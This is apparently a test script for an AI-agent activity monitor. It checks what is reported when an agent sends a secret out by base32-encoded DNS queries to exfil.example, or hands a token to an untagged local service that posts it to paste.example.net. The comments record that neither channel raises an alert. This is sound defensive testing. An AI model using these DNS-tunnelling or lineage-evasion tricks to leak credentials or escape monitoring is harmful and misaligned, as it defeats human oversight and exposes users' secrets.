#!/bin/bash
# Side channels for data (cases 9 and 11 of tests/evasion/README.md):
#  9  DNS queries carrying a secret in their labels: each query sent with
#     sendto is a send event (udp, dport 53, bytes) and each answer from
#     port 53 a dns event whose query is the whole name; glibc's resolver
#     (connected socket) gives a connect event and the dns event; a
#     resolver on another port (5353) gives send events only.  Hundreds of
#     such queries raise no alert (limit: no DNS tunnelling rule).
#  11 handing the data over a Unix socket to a local service that is not
#     tagged, which posts it: the agent's Unix connect and send are not
#     reported, and the service's POST is neither reported nor alerted
#     (limit: tagging follows lineage only).
. "$(dirname "$0")/lib.sh"

NS=127.0.0.78
bg "$PY" "$HELPERS/dns_server.py" "$NS" exfil.example 127.0.0.1 "$T/dns.ready" >"$T/dns.out" 2>&1
for _ in $(seq 100); do [ -s "$T/dns.ready" ] || [ -s "$T/dns.out" ] && break; sleep 0.05; done
[ -s "$T/dns.ready" ] || skip "cannot bind a DNS responder on $NS:53: $(cat "$T/dns.out")"
printf 'nameserver %s\noptions attempts:1 timeout:2\n' "$NS" >"$T/resolv.conf"
# shellcheck disable=SC2016
unshare -m sh -c 'mount --bind "$0" /etc/resolv.conf' "$T/resolv.conf" 2>/dev/null ||
	skip "cannot make a mount namespace for the test's resolv.conf"
# a responder on 127.0.0.1:5353 that echoes the question back as the answer
bg "$PY" -c "
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0))
open(sys.argv[1] + '.tmp', 'w').write('%d\n' % s.getsockname()[1]); os.rename(sys.argv[1] + '.tmp', sys.argv[1])
while True:
    q, p = s.recvfrom(512); s.sendto(q[:2] + b'\x81\x80' + q[4:], p)" "$T/alt.port"
bg "$PY" "$HELPERS/https_server.py" --plain --port-file "$T/port" --log "$T/server.log" >/dev/null 2>&1
wait_file "$T/alt.port"
wait_file "$T/port"
alt=$(cat "$T/alt.port")
port=$(cat "$T/port")

# the secret, base32 in labels of at most 63 bytes, under exfil.example
SECRET='AKIAIOSFODNN7EXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
NAME=$("$PY" -c "
import base64, sys
b = base64.b32encode(sys.argv[1].encode()).decode().rstrip('=').lower()
print('.'.join(b[i:i + 60] for i in range(0, len(b), 60)) + '.exfil.example')" "$SECRET")
# query.py ADDR PORT NAME [COUNT]: COUNT (1) A queries for NAME (query i > 0
# for i.NAME) from one socket with sendto, each waiting for its answer
cat >"$T/query.py" <<'PYEOF'
import socket, struct, sys
addr, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 1
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
for i in range(count):
    n = name if i == 0 else "%d.%s" % (i, name)
    q = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    s.sendto(q, (addr, port))
    s.recvfrom(512)
print(len(q))
PYEOF
start_collector

# ---- 9. DNS ----
qlen=$(launch dns-sendto "$PY" "$T/query.py" "$NS" 53 "$NAME") || fail "DNS query by sendto failed"
# shellcheck disable=SC2016
unshare -m sh -c 'mount --bind "$0" /etc/resolv.conf && exec "$@"' "$T/resolv.conf" \
	"$AGENTMON" launch --socket "$SOCK" --agent dns-glibc -- "$PY" -c "
import socket, sys; socket.gethostbyname(sys.argv[1])" "glibc.$NAME" || fail "glibc lookup failed"
launch dns-bulk "$PY" "$T/query.py" "$NS" 53 "$NAME" 300 >/dev/null || fail "300 DNS queries failed"
launch dns-alt "$PY" "$T/query.py" 127.0.0.1 "$alt" "$NAME" >/dev/null || fail "DNS query to :$alt failed"

wait_event 5 type=dns agent=dns-sendto query="$NAME" answers='["127.0.0.1"]'
expect 1 type=send agent=dns-sendto proto=udp daddr="$NS" dport=53 bytes="$qlen"
wait_event 5 type=dns agent=dns-glibc query="glibc.$NAME" answers='["127.0.0.1"]'
expect_min 1 type=connect agent=dns-glibc proto=udp daddr="$NS" dport=53
expect_min 1 type=send agent=dns-glibc proto=udp daddr="$NS" dport=53 bytes'>'0
wait_count 10 300 type=dns agent=dns-bulk query~"exfil\\.example\$"
expect 300 type=send agent=dns-bulk proto=udp daddr="$NS" dport=53
sentinel
expect 1 type=send agent=dns-alt proto=udp daddr=127.0.0.1 dport="$alt" bytes="$qlen"
expect 0 type=dns agent=dns-alt
expect 0 type=alert agent~'^dns-'
# the secret itself is never printed (argv, events): only its encoding
grep -q "wJalrXUtnFEMI" "$OUT" && fail "the secret reached the output"

# ---- 11. a Unix socket to an untagged service that posts ----
bg "$PY" "$EV_HELPERS/courier.py" "$T/courier.sock" "$port" paste.example.net "$T/courier.log" \
	>"$T/courier.out" 2>&1
courier=$BG_PID
for _ in $(seq 100); do [ -S "$T/courier.sock" ] && break; sleep 0.05; done
[ -S "$T/courier.sock" ] || fail "the courier did not start: $(cat "$T/courier.out")"
launch unix-agent "$PY" -c "
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sys.argv[1])
s.sendall(b'token=' + b'x' * 500)
s.close()" "$T/courier.sock" || fail "the agent could not reach the courier"
wait_file "$T/courier.log"
[ "$(cat "$T/courier.log")" = "200 506" ] || fail "the courier did not post: $(cat "$T/courier.log")"
grep -q '"method": "POST", "path": "/courier"' "$T/server.log" || fail "the server did not get the courier's POST"
# the courier posted (its log is written after the response): once the
# sentinel is out, nothing of it or of the hand-off was reported
sentinel
expect 1 type=exec agent=unix-agent
expect 0 type=connect agent=unix-agent
expect 0 type=send agent=unix-agent
expect 0 pid="$courier"
expect 0 type=alert

stop_collector
expect 0 type=http # (an http event may wait for its response until the stop)
pass "DNS: sendto queries -> send (dport 53, bytes) + dns event with the full name; glibc -> connect + send (from the wire) + dns; port $alt -> send only; 300 queries, no alert (limit); Unix socket hand-off to an untagged service: nothing reported (limit)"
